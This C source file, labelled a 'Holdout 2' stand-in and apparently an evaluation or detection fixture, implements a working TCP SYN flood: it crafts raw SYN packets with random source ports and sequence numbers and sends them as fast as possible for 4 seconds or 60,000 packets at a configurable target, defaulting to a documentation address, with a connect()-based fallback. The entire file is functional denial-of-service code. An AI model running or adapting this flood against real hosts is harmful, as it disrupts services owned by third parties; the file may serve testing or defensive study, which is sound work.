/* Holdout 2 stand-in: a TCP SYN flood at one documentation address. Hand-made SYN segments
 * (random source port and sequence number) are sent on one raw socket with sendto(), as fast as
 * it goes, for 4 seconds or 60,000 packets. Where a raw socket is refused it falls back to
 * non-blocking connect()+close() pairs, which send the same first packet of a handshake. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static unsigned short checksum(const void *data, int len) {
    const unsigned short *p = data;
    unsigned long sum = 0;
    for (; len > 1; len -= 2) sum += *p++;
    if (len) sum += *(const unsigned char *)p;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (unsigned short)~sum;
}

static int elapsed(const struct timespec *start) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (int)(now.tv_sec - start->tv_sec);
}

int main(int argc, char **argv) {
    const char *target = argc > 1 ? argv[1] : "203.0.113.10";
    int port = argc > 2 ? atoi(argv[2]) : 443;
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, target, &sa.sin_addr);
    struct timespec start;
    clock_gettime(CLOCK_MONOTONIC, &start);
    srand((unsigned)start.tv_nsec);
    long sent = 0;
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
    if (raw >= 0) {
        /* the source address the kernel will put in the IP header, for the TCP checksum */
        struct sockaddr_in self = {0};
        socklen_t self_len = sizeof self;
        int probe = socket(AF_INET, SOCK_DGRAM, 0);
        if (probe >= 0 && connect(probe, (struct sockaddr *)&sa, sizeof sa) == 0)
            getsockname(probe, (struct sockaddr *)&self, &self_len);
        if (probe >= 0) close(probe);
        struct {
            unsigned int src, dst;
            unsigned char zero, proto;
            unsigned short len;
            struct tcphdr tcp;
        } pseudo;
        struct tcphdr tcp;
        for (; sent < 60000 && elapsed(&start) < 4; sent++) {
            memset(&tcp, 0, sizeof tcp);
            tcp.source = htons(1024 + rand() % 60000);
            tcp.dest = htons(port);
            tcp.seq = htonl((unsigned)rand());
            tcp.doff = 5;
            tcp.syn = 1;
            tcp.window = htons(64240);
            memset(&pseudo, 0, sizeof pseudo);
            pseudo.src = self.sin_addr.s_addr;
            pseudo.dst = sa.sin_addr.s_addr;
            pseudo.proto = IPPROTO_TCP;
            pseudo.len = htons(sizeof tcp);
            pseudo.tcp = tcp;
            tcp.check = checksum(&pseudo, sizeof pseudo);
            if (sendto(raw, &tcp, sizeof tcp, 0, (struct sockaddr *)&sa, sizeof sa) < 0) break;
        }
        printf("probe: raw %ld\n", sent);
        return 0;
    }
    for (; sent < 60000 && elapsed(&start) < 4; sent++) {
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (fd < 0) break;
        connect(fd, (struct sockaddr *)&sa, sizeof sa);
        close(fd);
    }
    printf("probe: connect %ld\n", sent);
    return 0;
}
